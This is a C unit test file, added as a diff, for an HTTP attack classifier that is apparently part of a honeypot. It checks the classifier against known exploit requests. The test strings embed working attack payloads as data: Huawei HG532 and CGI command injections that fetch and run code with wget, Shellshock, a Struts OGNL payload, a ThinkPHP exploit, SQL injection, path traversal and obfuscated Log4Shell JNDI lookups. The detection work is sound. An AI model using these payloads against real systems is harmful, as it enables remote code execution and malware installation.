@@ -1,0 +1,652 @@
+/*
+ * test_webclass.c - the HTTP attack classifier (src/intel/webclass.c) and
+ * its rules (data/http/classify.rules).
+ *
+ * The exploit corpus tests/corpus/http/NN-name.req is replayed without the
+ * HTTP parser: a small local helper splits the request line, headers and body
+ * by hand and fills a struct hp_http_view (decoding %XX twice, '+' as space
+ * in the query and in form bodies), so this test depends only on the
+ * classifier.  Every file must classify with its "#! class:" and "#! cve:"
+ * lines, and every "#! url:" must be found by hp_urlx_scan over the decoded
+ * request plus the extracted commands.  Then: ordinary browser requests
+ * classify as nothing, command extraction and the ${IFS} normalisation, the
+ * union of several rules, rule-file errors, and bounds on hostile input.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <dirent.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <strings.h>
+
+#include "capture/urlx.h"
+#include "intel/webclass.h"
+
+#define MAXH 64
+
+/* A request split by hand, with its own decoded copies. */
+struct treq {
+    struct hp_http_view v;
+    struct hp_http_hdr h[MAXH];
+    uint8_t *raw;             /* request bytes (owned) */
+    uint8_t *dpath, *dquery, *dbody;
+};
+
+static int hexv(int c)
+{
+    if (c >= '0' && c <= '9')
+        return c - '0';
+    c |= 0x20;
+    return (c >= 'a' && c <= 'f') ? c - 'a' + 10 : -1;
+}
+
+/* One %XX pass (plus '+' -> ' ' when plus); out has room for n bytes. */
+static size_t pct(const uint8_t *p, size_t n, uint8_t *out, int plus)
+{
+    size_t o = 0;
+    for (size_t i = 0; i < n; i++) {
+        if (p[i] == '%' && i + 2 < n && hexv(p[i + 1]) >= 0 && hexv(p[i + 2]) >= 0) {
+            out[o++] = (uint8_t)(hexv(p[i + 1]) * 16 + hexv(p[i + 2]));
+            i += 2;
+        } else {
+            out[o++] = (plus && p[i] == '+') ? ' ' : p[i];
+        }
+    }
+    return o;
+}
+
+static uint8_t *decode2(const uint8_t *p, size_t n, int plus, size_t *outn)
+{
+    uint8_t *a = malloc(n + 1), *b = malloc(n + 1);
+    assert_non_null(a);
+    assert_non_null(b);
+    size_t m = pct(p, n, a, plus);
+    *outn = pct(a, m, b, 0);
+    free(a);
+    return b;
+}
+
+static void treq_free(struct treq *t)
+{
+    free(t->raw);
+    free(t->dpath);
+    free(t->dquery);
+    free(t->dbody);
+    memset(t, 0, sizeof(*t));
+}
+
+static const uint8_t *find(const uint8_t *p, size_t n, const char *s)
+{
+    size_t l = strlen(s);
+    for (size_t i = 0; i + l <= n; i++)
+        if (memcmp(p + i, s, l) == 0)
+            return p + i;
+    return NULL;
+}
+
+/* Fill t from raw request bytes (LF or CRLF line ends in the head). */
+static void treq_parse(struct treq *t, const void *data, size_t len, uint16_t port)
+{
+    memset(t, 0, sizeof(*t));
+    t->raw = malloc(len + 1);
+    assert_non_null(t->raw);
+    memcpy(t->raw, data, len);
+    const uint8_t *p = t->raw, *end = p + len;
+    const uint8_t *eol = memchr(p, '\n', len);
+    assert_non_null(eol);
+    const uint8_t *le = (eol > p && eol[-1] == '\r') ? eol - 1 : eol;
+    const uint8_t *sp1 = memchr(p, ' ', (size_t)(le - p));
+    assert_non_null(sp1);
+    const uint8_t *sp2 = memchr(sp1 + 1, ' ', (size_t)(le - sp1 - 1));
+    t->v.method = (struct hp_bytes){ p, (size_t)(sp1 - p) };
+    const uint8_t *tgt = sp1 + 1, *tend = sp2 ? sp2 : le;
+    t->v.target = (struct hp_bytes){ tgt, (size_t)(tend - tgt) };
+    t->v.version = sp2 ? (struct hp_bytes){ sp2 + 1, (size_t)(le - sp2 - 1) } : (struct hp_bytes){ tgt, 0 };
+    const uint8_t *q = memchr(tgt, '?', (size_t)(tend - tgt));
+    t->v.path = (struct hp_bytes){ tgt, (size_t)((q ? q : tend) - tgt) };
+    t->v.query = q ? (struct hp_bytes){ q + 1, (size_t)(tend - q - 1) } : (struct hp_bytes){ tgt, 0 };
+    size_t n;
+    t->dpath = decode2(t->v.path.p, t->v.path.n, 0, &n);
+    t->v.dpath = (struct hp_bytes){ t->dpath, n };
+    t->dquery = decode2(t->v.query.p, t->v.query.n, 1, &n);
+    t->v.dquery = (struct hp_bytes){ t->dquery, n };
+
+    p = eol + 1;
+    int form = 0;
+    while (p < end) {
+        eol = memchr(p, '\n', (size_t)(end - p));
+        if (!eol)
+            eol = end;
+        le = (eol > p && eol[-1] == '\r') ? eol - 1 : eol;
+        if (le == p) {
+            p = eol < end ? eol + 1 : end;
+            break;
+        }
+        const uint8_t *c = memchr(p, ':', (size_t)(le - p));
+        assert_non_null(c);
+        assert_true(t->v.nheaders < MAXH);
+        struct hp_http_hdr *h = &t->h[t->v.nheaders++];
+        h->name = (struct hp_bytes){ p, (size_t)(c - p) };
+        const uint8_t *vs = c + 1, *ve = le;
+        while (vs < ve && (*vs == ' ' || *vs == '\t'))
+            vs++;
+        while (ve > vs && (ve[-1] == ' ' || ve[-1] == '\t'))
+            ve--;
+        h->value = (struct hp_bytes){ vs, (size_t)(ve - vs) };
+        if (h->name.n == 12 && strncasecmp((const char *)h->name.p, "Content-Type", 12) == 0 &&
+            find(vs, (size_t)(ve - vs), "x-www-form-urlencoded"))
+            form = 1;
+        p = eol < end ? eol + 1 : end;
+    }
+    t->v.headers = t->h;
+    t->v.body = (struct hp_bytes){ p, (size_t)(end - p) };
+    if (form) {
+        t->dbody = decode2(p, (size_t)(end - p), 1, &n);
+        t->v.dbody = (struct hp_bytes){ t->dbody, n };
+    } else {
+        t->v.dbody = t->v.body;
+    }
+    t->v.local_port = port;
+}
+
+static void treq_str(struct treq *t, const char *s)
+{
+    treq_parse(t, s, strlen(s), 80);
+}
+
+static int has_class(const struct hp_webclass *w, const char *c)
+{
+    for (size_t i = 0; i < w->nclasses; i++)
+        if (strcmp(w->classes[i], c) == 0)
+            return 1;
+    return 0;
+}
+
+static int has_cve(const struct hp_webclass *w, const char *c)
+{
+    for (size_t i = 0; i < w->ncves; i++)
+        if (strcmp(w->cves[i], c) == 0)
+            return 1;
+    return 0;
+}
+
+static int has_rule(const struct hp_webclass *w, const char *c)
+{
+    for (size_t i = 0; i < w->nrules; i++)
+        if (strcmp(w->rules[i], c) == 0)
+            return 1;
+    return 0;
+}
+
+static void dump(const char *what, const struct hp_webclass *w)
+{
+    fprintf(stderr, "%s: classes", what);
+    for (size_t i = 0; i < w->nclasses; i++)
+        fprintf(stderr, " %s", w->classes[i]);
+    fprintf(stderr, "; cves");
+    for (size_t i = 0; i < w->ncves; i++)
+        fprintf(stderr, " %s", w->cves[i]);
+    fprintf(stderr, "; rules");
+    for (size_t i = 0; i < w->nrules; i++)
+        fprintf(stderr, " %s", w->rules[i]);
+    fprintf(stderr, "; commands [%s]\n", w->commands);
+}
+
+static int setup(void **state)
+{
+    char err[256];
+    if (hp_webclass_init(err, sizeof(err)) != 0) {
+        fprintf(stderr, "webclass init: %s\n", err);
+        return -1;
+    }
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    hp_webclass_shutdown();
+    return 0;
+}
+
+/* ---- the exploit corpus ---------------------------------------------------- */
+
+#define CORPUS "tests/corpus/http"
+
+struct meta {
+    char cls[8][32];
+    size_t ncls;
+    char cve[8][32];
+    size_t ncve;
+    char url[8][256];
+    size_t nurl;
+    unsigned port;
+};
+
+struct urlhits {
+    size_t n;
+    char u[HP_URLX_MAX][HP_URLX_URL_MAX + 1];
+};
+
+static void on_url(void *arg, const char *url, const char *how, const char *layer)
+{
+    struct urlhits *h = arg;
+    if (h->n < HP_URLX_MAX)
+        snprintf(h->u[h->n++], sizeof(h->u[0]), "%s", url);
+}
+
+static uint8_t *slurp(const char *path, size_t *len)
+{
+    FILE *f = fopen(path, "rb");
+    assert_non_null(f);
+    uint8_t *buf = malloc(1 << 20);
+    assert_non_null(buf);
+    *len = fread(buf, 1, 1 << 20, f);
+    fclose(f);
+    return buf;
+}
+
+/* Split "#! key: value" lines from the request; the head of the request
+ * (up to the first empty line) gets CRLF line ends, the body stays as is. */
+static uint8_t *corpus_load(const char *path, struct meta *m, size_t *reqlen)
+{
+    size_t len;
+    uint8_t *f = slurp(path, &len);
+    memset(m, 0, sizeof(*m));
+    m->port = 80;
+    size_t off = 0;
+    int sep = 0;
+    while (off < len && !sep) {
+        uint8_t *nl = memchr(f + off, '\n', len - off);
+        assert_non_null(nl);
+        char line[512];
+        size_t ln = (size_t)(nl - (f + off));
+        assert_true(ln < sizeof(line));
+        memcpy(line, f + off, ln);
+        line[ln] = '\0';
+        off += ln + 1;
+        assert_true(strncmp(line, "#! ", 3) == 0);
+        if (strcmp(line, "#! ---") == 0)
+            sep = 1;
+        else if (strncmp(line, "#! class: ", 10) == 0 && m->ncls < 8)
+            snprintf(m->cls[m->ncls++], 32, "%.31s", line + 10);
+        else if (strncmp(line, "#! cve: ", 8) == 0 && m->ncve < 8)
+            snprintf(m->cve[m->ncve++], 32, "%.31s", line + 8);
+        else if (strncmp(line, "#! url: ", 8) == 0 && m->nurl < 8)
+            snprintf(m->url[m->nurl++], 256, "%.255s", line + 8);
+        else if (strncmp(line, "#! port: ", 9) == 0)
+            m->port = (unsigned)atoi(line + 9);
+        else
+            fail_msg("%s: unknown header line %s", path, line);
+    }
+    assert_true(sep);
+    uint8_t *out = malloc(2 * (len - off) + 1);
+    assert_non_null(out);
+    size_t o = 0, i = off;
+    int head = 1;
+    while (i < len) {
+        if (head && f[i] == '\n') {
+            out[o++] = '\r';
+            out[o++] = '\n';
+            if (i + 1 < len && f[i + 1] == '\n') {
+                out[o++] = '\r';
+                out[o++] = '\n';
+                i += 2;
+                head = 0;
+                continue;
+            }
+            i++;
+            continue;
+        }
+        out[o++] = f[i++];
+    }
+    free(f);
+    *reqlen = o;
+    return out;
+}
+
+static void check_corpus_file(const char *path, size_t *nurls)
+{
+    struct meta m;
+    size_t rl;
+    uint8_t *raw = corpus_load(path, &m, &rl);
+    assert_true(m.ncls > 0);
+    struct treq t;
+    treq_parse(&t, raw, rl, (uint16_t)m.port);
+    free(raw);
+    struct hp_webclass w;
+    hp_webclass_classify(&t.v, &w);
+    int ok = 1;
+    for (size_t i = 0; i < m.ncls; i++)
+        if (!has_class(&w, m.cls[i])) {
+            fprintf(stderr, "%s: missing class %s\n", path, m.cls[i]);
+            ok = 0;
+        }
+    for (size_t i = 0; i < m.ncve; i++)
+        if (!has_cve(&w, m.cve[i])) {
+            fprintf(stderr, "%s: missing %s\n", path, m.cve[i]);
+            ok = 0;
+        }
+    /* the URL lines: what the lead hands to the extractor, decoded request + commands */
+    size_t cap = t.v.method.n + t.v.dpath.n + t.v.dquery.n + t.v.dbody.n + w.commands_len + 16;
+    for (size_t i = 0; i < t.v.nheaders; i++)
+        cap += t.h[i].name.n + t.h[i].value.n + 4;
+    char *text = malloc(cap);
+    assert_non_null(text);
+    size_t o = 0;
+#define PUT(p, n) do { memcpy(text + o, (p), (n)); o += (n); } while (0)
+    PUT(t.v.method.p, t.v.method.n);
+    PUT(" ", 1);
+    PUT(t.v.dpath.p, t.v.dpath.n);
+    PUT("?", 1);
+    PUT(t.v.dquery.p, t.v.dquery.n);
+    PUT("\n", 1);
+    for (size_t i = 0; i < t.v.nheaders; i++) {
+        PUT(t.h[i].name.p, t.h[i].name.n);
+        PUT(": ", 2);
+        PUT(t.h[i].value.p, t.h[i].value.n);
+        PUT("\n", 1);
+    }
+    PUT("\n", 1);
+    PUT(t.v.dbody.p, t.v.dbody.n);
+    PUT("\n", 1);
+    PUT(w.commands, w.commands_len);
+#undef PUT
+    static struct urlhits h;
+    memset(&h, 0, sizeof(h));
+    hp_urlx_scan(text, o, on_url, &h);
+    free(text);
+    for (size_t i = 0; i < m.nurl; i++) {
+        size_t k = 0;
+        while (k < h.n && strcmp(h.u[k], m.url[i]) != 0)
+            k++;
+        if (k == h.n) {
+            fprintf(stderr, "%s: url %s not found\n", path, m.url[i]);
+            ok = 0;
+        }
+    }
+    *nurls += m.nurl;
+    if (!ok || getenv("HP_WEBCLASS_DUMP"))   /* HP_WEBCLASS_DUMP=1: review every result */
+        dump(path, &w);
+    treq_free(&t);
+    if (!ok)
+        fail_msg("%s", path);
+}
+
+static int cmpstr(const void *a, const void *b)
+{
+    return strcmp(*(char *const *)a, *(char *const *)b);
+}
+
+static void test_corpus(void **state)
+{
+    DIR *d = opendir(CORPUS);
+    assert_non_null(d);
+    char *names[256];
+    size_t n = 0;
+    struct dirent *e;
+    while ((e = readdir(d)) && n < 256) {
+        size_t l = strlen(e->d_name);
+        if (l > 4 && strcmp(e->d_name + l - 4, ".req") == 0)
+            names[n++] = strdup(e->d_name);
+    }
+    closedir(d);
+    assert_true(n >= 30);
+    qsort(names, n, sizeof(names[0]), cmpstr);
+    size_t nurls = 0;
+    for (size_t i = 0; i < n; i++) {
+        char path[512];
+        snprintf(path, sizeof(path), "%s/%s", CORPUS, names[i]);
+        check_corpus_file(path, &nurls);
+        free(names[i]);
+    }
+    assert_true(nurls >= 20);
+}
+
+/* ---- individual behaviours ------------------------------------------------- */
+
+static void classify_str(const char *req, struct hp_webclass *w)
+{
+    struct treq t;
+    treq_str(&t, req);
+    hp_webclass_classify(&t.v, w);
+    treq_free(&t);
+}
+
+static void test_benign(void **state)
+{
+    static const char *const reqs[] = {
+        "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 "
+        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/"
+        "xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, "
+        "deflate, br\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n\r\n",
+        "GET /favicon.ico HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; rv:121.0) "
+        "Gecko/20100101 Firefox/121.0\r\nAccept: image/avif,image/webp,*/*\r\nReferer: http://www.example.com/\r\n\r\n",
+        "GET /robots.txt HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; "
+        "+http://www.google.com/bot.html)\r\nAccept: */*\r\n\r\n",
+        "GET /search?q=how+to+select+a+union+representative&page=2 HTTP/1.1\r\nHost: www.example.com\r\n"
+        "User-Agent: Mozilla/5.0\r\nCookie: session=abc123; theme=dark\r\n\r\n",
+        "GET /static/app.js?v=3.2.1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n"
+        "If-None-Match: \"5e8-1a2b\"\r\n\r\n",
+        "POST /login HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
+        "application/x-www-form-urlencoded\r\n\r\nusername=alice&password=correct+horse+battery&remember=1",
+        "POST /api/comments HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
+        "application/json\r\n\r\n{\"text\":\"It's fine; I'd say the echo was loud | really\",\"id\":42}",
+        "GET /blog/2024/01/what-is-new/ HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: curl/8.5.0\r\n"
+        "Accept: */*\r\n\r\n",
+        "GET /images/logo.png HTTP/1.0\r\nUser-Agent: Wget/1.21.4\r\nAccept: */*\r\n\r\n",
+        "GET /docs/index.html?lang=en&ref=http%3A%2F%2Fwww.example.org%2F HTTP/1.1\r\nHost: a.example\r\n"
+        "User-Agent: Mozilla/5.0\r\n\r\n",
+    };
+    for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
+        struct hp_webclass w;
+        classify_str(reqs[i], &w);
+        if (w.nclasses || w.ncves || w.nrules || w.commands_len) {
+            dump(reqs[i], &w);
+            fail();
+        }
+        assert_null(w.owasp_iot);
+    }
+}
+
+static void test_commands_hg532(void **state)
+{
+    struct hp_webclass w;
+    classify_str("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n"
+                 "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.7 -l /tmp/x -r /mips)</NewStatusURL>"
+                 "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>", &w);
+    assert_true(has_cve(&w, "CVE-2017-17215"));
+    assert_true(has_class(&w, "command-injection"));
+    assert_string_equal(w.owasp_iot, "I3");
+    assert_string_equal(w.commands, "$(/bin/busybox wget -g 192.0.2.7 -l /tmp/x -r /mips)\n$(echo HUAWEIUPNP)");
+    assert_int_equal(w.commands_len, strlen(w.commands));
+}
+
+static void test_commands_ifs(void **state)
+{
+    struct hp_webclass w;
+    /* ${IFS}, $IFS$9, ${IFS%??} and tabs all become spaces in the command */
+    classify_str("GET /cgi-bin/;cd${IFS}/tmp;wget$IFS$9http://192.0.2.1/a;sh${IFS%25%3F%3F}a\tb HTTP/1.1\r\n\r\n", &w);
+    assert_true(has_cve(&w, "CVE-2016-6277"));
+    assert_string_equal(w.commands, "cd /tmp;wget http://192.0.2.1/a;sh a b");
+
+    /* double-encoded backquote in a parameter, backslash-newline in a body */
+    classify_str("GET /cgi-bin/ping.cgi?ping_ip=%2560wget%2520http://192.0.2.2/p%2560 HTTP/1.1\r\n\r\n", &w);
+    assert_true(has_class(&w, "command-injection"));
+    assert_non_null(strstr(w.commands, "wget http://192.0.2.2/p"));
+
+    classify_str("POST /x.cgi HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nhost=a;wg\\\net http://192.0.2.3/b", &w);
+    assert_true(has_rule(&w, "cmdi-param-metachar"));
+    assert_non_null(strstr(w.commands, "wget http://192.0.2.3/b"));
+}
+
+static void test_commands_kinds(void **state)
+{
+    struct hp_webclass w;
+    classify_str("GET /cgi-bin/x.cgi HTTP/1.1\r\nUser-Agent: () { :; }; /bin/sh -c 'id'\r\n\r\n", &w);
+    assert_true(has_cve(&w, "CVE-2014-6271"));
+    assert_string_equal(w.commands, "/bin/sh -c 'id'");
+
+    classify_str("GET /a.action HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data')."
+                 "(#cmd='uname -a').(#p=new java.lang.ProcessBuilder(#cmd))}\r\n\r\n", &w);
+    assert_true(has_cve(&w, "CVE-2017-5638"));
+    assert_string_equal(w.commands, "uname -a");
+
+    classify_str("GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
+                 "&vars[0]=system&vars[1][]=echo%20hi HTTP/1.1\r\n\r\n", &w);
+    assert_true(has_cve(&w, "CVE-2018-20062"));
+    assert_string_equal(w.commands, "echo hi");
+
+    classify_str("GET /cmd.php?cmd=busybox%20wget%20http://192.0.2.4/x HTTP/1.1\r\n\r\n", &w);
+    assert_true(has_class(&w, "webshell"));
+    assert_string_equal(w.commands, "busybox wget http://192.0.2.4/x");
+}
+
+static void test_union(void **state)
+{
+    struct hp_webclass w;
+    classify_str("GET /item.php?id=1+union+select+1,2--+-&f=../../../../etc/passwd HTTP/1.1\r\n"
+                 "User-Agent: sqlmap/1.7\r\nX-Api: ${jndi:ldap://198.51.100.1/a}\r\n\r\n", &w);
+    assert_true(has_class(&w, "sqli"));
+    assert_true(has_class(&w, "scanner"));
+    assert_true(has_class(&w, "path-traversal"));
+    assert_true(has_class(&w, "lfi"));
+    assert_true(has_class(&w, "jndi"));
+    assert_true(has_cve(&w, "CVE-2021-44228"));
+    assert_true(w.nrules >= 5);
+    /* distinct classes: pointers to the same static strings are never repeated */
+    for (size_t i = 0; i < w.nclasses; i++)
+        for (size_t j = i + 1; j < w.nclasses; j++)
+            assert_true(strcmp(w.classes[i], w.classes[j]) != 0);
+}
+
+static void test_log4shell_forms(void **state)
+{
+    static const char *const forms[] = {
+        "${jndi:ldap://198.51.100.1/a}",
+        "${${lower:j}ndi:ldap://198.51.100.1/a}",
+        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.1/a}",
+        "${${lower:jndi}:${lower:rmi}://198.51.100.1/a}",
+        "${j${k8s:k5:-ND}i:ldap://198.51.100.1/a}",
+        "%24%7Bjndi%3Adns%3A%2F%2F198.51.100.1%2Fa%7D",
+        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.1/a}",
+    };
+    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
+        char req[512];
+        snprintf(req, sizeof(req), "GET /?a=%s HTTP/1.1\r\nHost: h\r\n\r\n", forms[i]);
+        struct hp_webclass w;
+        classify_str(req, &w);
+        if (!has_cve(&w, "CVE-2021-44228")) {
+            dump(forms[i], &w);
+            fail();
+        }
+    }
+    /* shell parameter expansion is not JNDI */
+    struct hp_webclass w;
+    classify_str("GET /?a=${d:0:1}${i:-x} HTTP/1.1\r\n\r\n", &w);
+    assert_false(has_class(&w, "jndi"));
+}
+
+static void test_rule_errors(void **state)
+{
+    static const char *const bad[] = {
+        "rule a\nclass nosuchclass\nmatch dpath x\n",
+        "rule a\nclass recon\nmatch dpath (unclosed\n",
+        "rule a\nclass recon\nmatch nosuchfield x\n",
+        "rule a\nclass recon\nname no condition\n",
+        "rule a\nmatch dpath x\n",
+        "rule a\nclass recon\nmatch dpath x\nrule a\nclass recon\nmatch dpath y\n",
+        "class recon\n",
+        "rule a\nclass recon\ncve CVE-12\nmatch dpath x\n",
+        "rule a\nclass recon\nowasp_iot I11\nmatch dpath x\n",
+        "rule a\nclass recon\nnot dpath x\n",
+        "rule a b\nclass recon\nmatch header\n",
+        "rule a\nclass recon\nbogus x\nmatch dpath x\n",
+        "rule bad/id\nclass recon\nmatch dpath x\n",
+    };
+    char err[256];
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+        err[0] = '\0';
+        assert_int_equal(hp_webclass_init_text(bad[i], strlen(bad[i]), err, sizeof(err)), -1);
+        assert_true(strncmp(err, "classify.rules:", 15) == 0);
+        assert_int_equal(hp_webclass_nrules(), 0);
+    }
+    /* not initialised: empty result */
+    struct hp_webclass w;
+    classify_str("GET /.env HTTP/1.1\r\n\r\n", &w);
+    assert_int_equal(w.nclasses, 0);
+
+    const char *good = "# c\n\nrule r1\nclass recon info-leak\ncve CVE-2020-0001 CVE-2021-12345\n"
+                       "owasp_iot I10\nname x\nmatch header x-test ^yes$\nnot dpath ^/no\n"
+                       "cmd header x-test (y)(e)?(q)?\nrule r2\nclass recon\nmatch port ^8080$\n";
+    assert_int_equal(hp_webclass_init_text(good, strlen(good), err, sizeof(err)), 0);
+    assert_int_equal(hp_webclass_nrules(), 2);
+    classify_str("GET /yes HTTP/1.1\r\nX-Other: no\r\nX-TEST: YES\r\n\r\n", &w);
+    assert_int_equal(w.nclasses, 2);
+    assert_int_equal(w.ncves, 2);
+    assert_string_equal(w.owasp_iot, "I10");
+    assert_string_equal(w.rules[0], "r1");
+    assert_string_equal(w.commands, "E");   /* highest group that took part */
+    classify_str("GET /no HTTP/1.1\r\nX-TEST: YES\r\n\r\n", &w);
+    assert_int_equal(w.nrules, 0);
+    hp_webclass_shutdown();
+    assert_int_equal(setup(NULL), 0);
+    assert_true(hp_webclass_nrules() >= 50);
+}
+
+/* Hostile sizes: a 1 MiB body of ${IFS}, metacharacters and nested lookups
+ * finishes, and the command buffer stays within its cap. */
+static void test_bounds(void **state)
+{
+    size_t n = 1 << 20;
+    char *req = malloc(n + 256);
+    assert_non_null(req);
+    int hl = snprintf(req, 256, "POST /cgi-bin/x.cgi?cmd=wget%%20a HTTP/1.1\r\nContent-Type: "
+                      "application/x-www-form-urlencoded\r\n\r\n");
+    static const char *const pat[] = { "${IFS}", "a=;wget http://198.51.100.9/", "${${::-j}",
+                                       "((((((((", "%25%32%35", "'or'1'='1", "\\\n" };
+    size_t o = (size_t)hl, k = 0;
+    while (o + 64 < n) {
+        const char *s = pat[k++ % (sizeof(pat) / sizeof(pat[0]))];
+        size_t l = strlen(s);
+        memcpy(req + o, s, l);
+        o += l;
+        if (k % 7 == 0)
+            o += (size_t)snprintf(req + o, 32, "%zu&", k);
+    }
+    struct treq t;
+    treq_parse(&t, req, o, 80);
+    struct hp_webclass w;
+    hp_webclass_classify(&t.v, &w);
+    assert_true(w.commands_len < sizeof(w.commands));
+    assert_int_equal(strlen(w.commands), w.commands_len);
+    assert_true(w.nclasses <= HP_WEBCLASS_MAX && w.nrules <= HP_WEBCLASS_MAX);
+    treq_free(&t);
+
+    /* an empty view */
+    struct hp_http_view v;
+    memset(&v, 0, sizeof(v));
+    hp_webclass_classify(&v, &w);
+    assert_int_equal(w.nclasses, 0);
+    free(req);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_corpus),
+        cmocka_unit_test(test_benign),
+        cmocka_unit_test(test_commands_hg532),
+        cmocka_unit_test(test_commands_ifs),
+        cmocka_unit_test(test_commands_kinds),
+        cmocka_unit_test(test_union),
+        cmocka_unit_test(test_log4shell_forms),
+        cmocka_unit_test(test_rule_errors),
+        cmocka_unit_test(test_bounds),
+    };
+    return cmocka_run_group_tests(tests, setup, teardown);
+}
